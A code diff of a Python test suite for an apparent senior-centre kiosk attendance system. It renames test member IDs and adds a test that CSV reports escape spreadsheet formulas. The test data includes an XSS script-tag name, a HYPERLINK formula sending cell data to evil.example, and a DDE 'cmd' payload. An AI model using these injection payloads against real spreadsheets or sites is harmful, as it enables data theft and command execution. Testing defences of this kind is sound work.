@@ -92,7 +92,7 @@ def push(
 def bureau(server, kiosk, client):
     """Two sites: DEMO-001 with kiosks K01 (pushes) and K02 (revoked), DEMO-002 with K01 (pushes)
     and K02 (never heard from).  The rules have read every fact."""
-    admin.add_site(OTHER, "东城街道长者服务站")
+    admin.add_site(OTHER, "东城街道长者服务站", prefix="DC")
     revoked = admin.add_kiosk(SITE)
     admin.revoke(revoked.kiosk_id)
     other = admin.add_kiosk(OTHER)
@@ -101,14 +101,14 @@ def bureau(server, kiosk, client):
     push(
         client,
         [
-            ("member", member("DM0001", "王建华", SITE, "2026-01-10", "h-wang")),
-            ("member", member("DM0002", "李秀英", SITE, "2026-10-30", "h-li")),
-            ("member", member("DM0003", "张<script>alert(1)</script>", SITE, "2026-01-01", "h-zhang")),
-            ("member", member("DM0004", "刘桂兰", SITE, "2026-01-01", "h-liu", active=False)),
-            ("member", member("DM0005", "陈国栋", SITE, "2026-11-10", "h-chen")),
-            ("signin", signin("DM0001", SITE, k1, "太极拳", "2026-11-20T09:00:00")),
-            ("signin", signin("DM0001", SITE, k1, "太极拳", "2026-11-21T09:00:00")),
-            ("signin", signin("DM0002", SITE, k1, "太极拳", "2026-11-21T09:00:00")),
+            ("member", member("XC0001", "王建华", SITE, "2026-01-10", "h-wang")),
+            ("member", member("XC0002", "李秀英", SITE, "2026-10-30", "h-li")),
+            ("member", member("XC0003", "张<script>alert(1)</script>", SITE, "2026-01-01", "h-zhang")),
+            ("member", member("XC0004", "刘桂兰", SITE, "2026-01-01", "h-liu", active=False)),
+            ("member", member("XC0005", "陈国栋", SITE, "2026-11-10", "h-chen")),
+            ("signin", signin("XC0001", SITE, k1, "太极拳", "2026-11-20T09:00:00")),
+            ("signin", signin("XC0001", SITE, k1, "太极拳", "2026-11-21T09:00:00")),
+            ("signin", signin("XC0002", SITE, k1, "太极拳", "2026-11-21T09:00:00")),
             ("device", device(k1, SITE, "ok", 0, "", "2026-11-20T08:00:00")),
             ("device", device(k1, SITE, "absent", 3, "串口无响应", "2026-11-21T08:30:00")),
             ("no_such_kind", {"x": 1}),  # refused: one reject
@@ -163,7 +163,7 @@ def check_attendance():
     november = reports.attendance(date(2026, 11, 1), date(2026, 11, 30))
     assert [(s.code, s.signins, s.members, s.days) for s in november] == [
         (SITE, 3, 2, [(date(2026, 11, 20), 1), (date(2026, 11, 21), 2)]),
-        # The alias DC0001 signs in as its canonical member DM0001, counted where it signed in.
+        # The alias DC0001 signs in as its canonical member XC0001, counted where it signed in.
         (OTHER, 1, 1, [(date(2026, 11, 21), 1)]),
     ]
     assert november[0].items == [
@@ -179,8 +179,8 @@ def check_attendance():
 
 
 def check_active_seniors():
-    # Registered: DM0001-3 and DM0005 at DEMO-001 (DM0004 is inactive), DC0002 at DEMO-002 (DC0001
-    # is merged into DM0001).  Active in 30 days: DM0001 and DM0002, by their home site.
+    # Registered: XC0001-3 and XC0005 at DEMO-001 (XC0004 is inactive), DC0002 at DEMO-002 (DC0001
+    # is merged into XC0001).  Active in 30 days: XC0001 and XC0002, by their home site.
     assert reports.active_seniors(30, TODAY) == [
         Activity(SITE, "示范区老干部活动中心", 2, 4),
         Activity(OTHER, "东城街道长者服务站", 0, 1),
@@ -192,19 +192,19 @@ def check_active_seniors():
 
 
 def check_care_list():
-    # DM0003 never came (joined in January); DC0002 last came on 1 October.  DM0005 joined 11 days
+    # XC0003 never came (joined in January); DC0002 last came on 1 October.  XC0005 joined 11 days
     # ago: not yet.  Inactive and merged numbers are not listed.
-    never = CareRow("DM0003", "张<script>alert(1)</script>", "6688", SITE, date(2026, 1, 1), None)
+    never = CareRow("XC0003", "张<script>alert(1)</script>", "6688", SITE, date(2026, 1, 1), None)
     gone = CareRow("DC0002", "赵德明", "6688", OTHER, date(2026, 2, 1), date(2026, 10, 1))
     assert reports.care_list(4, TODAY) == [never, gone]
     assert reports.care_list(4, TODAY, OTHER) == [gone]
     assert reports.care_list(8, TODAY) == [never]
     assert [r.member_no for r in reports.care_list(1, date(2026, 12, 31))] == [
-        "DM0003",
-        "DM0005",
+        "XC0003",
+        "XC0005",
         "DC0002",
-        "DM0001",
-        "DM0002",
+        "XC0001",
+        "XC0002",
     ]
 
 
@@ -269,3 +269,30 @@ def check_cli(bureau: dict, store_url: str, tmp_path):
     refused = cli(store_url, "report", "care", "--site", "NOPE", cwd=tmp_path)
     assert (refused.returncode, refused.stdout) == (2, "")
     assert "unknown site NOPE" in refused.stderr
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
+
+
+def test_a_csv_report_holds_no_formula(server, kiosk, client, store_url, tmp_path):
+    """Names and titles a kiosk sent that Excel would evaluate come out of --csv behind a ',
+    so a spreadsheet shows them as text."""
+    members = [
+        ("member", member(f"DM01{i:02d}", name, SITE, "2026-01-01", f"h-{i}")) for i, name in enumerate(FORMULAS)
+    ]
+    lesson = signin("DM0199", SITE, kiosk.kiosk_id, FORMULAS[3], "2026-11-20T09:00:00")
+    push(client, [*members, ("member", member("DM0199", "王建华", SITE, "2026-01-01", "h-99")), ("signin", lesson)])
+    rules.catch_up()
+
+    care = cli(store_url, "report", "care", "--weeks", "4", "--csv", cwd=tmp_path)
+    assert care.returncode == 0, care.stderr
+    rows = list(csv.reader(io.StringIO(care.stdout.removeprefix("\ufeff"))))
+    names = {r[0]: r[1] for r in rows[1:]}
+    assert {no: names[no] for no in names if no != "DM0199"} == {
+        f"DM01{i:02d}": "'" + name for i, name in enumerate(FORMULAS)
+    }
+    attendance = cli(
+        store_url, "report", "attendance", "--from", "2026-11-01", "--to", "2026-11-30", "--csv", cwd=tmp_path
+    )
+    items = list(csv.reader(io.StringIO(attendance.stdout.split("\n\n")[2])))
+    assert items[1][:2] == [SITE, "'-2+3"]
